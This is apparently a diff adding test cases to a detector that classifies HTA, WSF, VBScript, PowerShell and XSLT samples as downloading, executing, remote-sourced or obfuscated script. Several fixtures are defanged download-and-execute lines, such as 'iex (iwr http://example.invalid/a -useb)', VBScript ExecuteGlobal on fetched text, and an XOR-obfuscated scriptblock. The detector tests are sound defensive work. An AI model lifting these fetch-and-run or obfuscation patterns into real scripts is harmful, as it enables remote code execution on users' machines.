@@ -133,7 +133,34 @@ INSTANTIATE_TEST_SUITE_P(
         Case{"hta",
              "<html><HTA:APPLICATION id=x><script src=\"http://example.invalid/x.js\"></script>"
              "<script language=vbscript>' INERT CreateObject(\"WScript.Shell\").Run</script></html>",
-             "a.hta", "file.script script.download script.exec"},
+             "a.hta", "file.script script.download script.exec script.remote-source"},
+        Case{"wsf_of_the_house", "<job><script language=\"JScript\" src=\"http://intranet/a.js\"/></job>",
+             "a.wsf", "file.script script.download"},
+        Case{"wsf_elsewhere", "<job><script language=\"JScript\" src=\"http://example.invalid/a.js\"/></job>",
+             "a.wsf", "file.script script.download script.remote-source"},
+        Case{"vbs_runs_what_it_fetches",
+             "If False Then\r\nSet h = CreateObject(\"MSXML2.ServerXMLHTTP\")\r\nExecuteGlobal "
+             "h.responseText\r\nEnd If\r\n",
+             "a.vbs", "file.script script.download script.exec"},
+        Case{"vbs_asks_a_database",
+             "Set h = CreateObject(\"MSXML2.ServerXMLHTTP\")\r\nSet r = db.Execute (\"select 1\")\r\n",
+             "a.vbs", "file.script script.download"},
+        Case{"powershell_runs_what_it_fetches", "iex (iwr http://example.invalid/a -useb) # INERT\r\n",
+             "a.ps1", "file.script script.download script.exec"},
+        Case{"powershell_fetches", "iwr http://example.com/a -OutFile a.zip\r\n", "a.ps1",
+             "file.script script.download"},
+        Case{"powershell_block_of_codes",
+             "if($false){$b=(1,2)|%{[char]($_ -bxor 91)};&([scriptblock]::Create(-join $b))}#INERT", "a.ps1",
+             "file.script script.exec script.obfuscated"},
+        Case{"style_sheet_with_the_shell",
+             "<?xml version=\"1.0\"?><stylesheet xmlns:ms=\"urn:schemas-microsoft-com:xslt\"><ms:script "
+             "implements-prefix=\"u\" language=\"JScript\"><![CDATA[if(false){new "
+             "ActiveXObject(\"WScript.Shell\").Run(\"mshta INERT\");}]]></ms:script></stylesheet>",
+             "a.xsl", "file.script script.exec"},
+        Case{"style_sheet_that_counts",
+             "<?xml version=\"1.0\"?><xsl:stylesheet><msxsl:script implements-prefix=\"u\" "
+             "language=\"C#\">public int Sum(int a) { return a + 1; }</msxsl:script></xsl:stylesheet>",
+             "map.xsl", ""},
         Case{"jse", fixtures::encoded_script("var s = new ActiveXObject('WScript.Shell');"), "a.jse",
              "file.script script.encoded"}),
     [](const auto& info) { return info.param.name; });
